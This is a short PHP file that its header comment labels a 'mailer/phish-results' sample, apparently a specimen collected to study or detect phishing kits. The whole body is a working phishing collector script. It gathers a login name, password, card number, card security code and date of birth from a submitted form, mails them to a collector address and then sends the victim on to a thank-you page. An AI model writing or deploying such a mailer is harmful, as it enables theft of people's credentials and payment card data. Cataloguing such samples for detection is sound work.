<?php
/* Family: mailer/phish-results
 * Style: long card-and-identity form sent to the collector
 * Trait: login, password, card number, security code and date of birth from POST concatenated into the body and mailed
 */
$msg  = "user: " . $_POST['login_name'] . "\n";
$msg .= "password: " . $_POST['user_password'] . "\n";
$msg .= "card: " . $_POST['card_number'] . "\n";
$msg .= "csc: " . $_POST['csc_code'] . "\n";
$msg .= "date of birth: " . $_POST['birth_date'] . "\n";
mail('collector@mailbox-demo.test', 'new result', $msg);
header('Location: thanks.html');
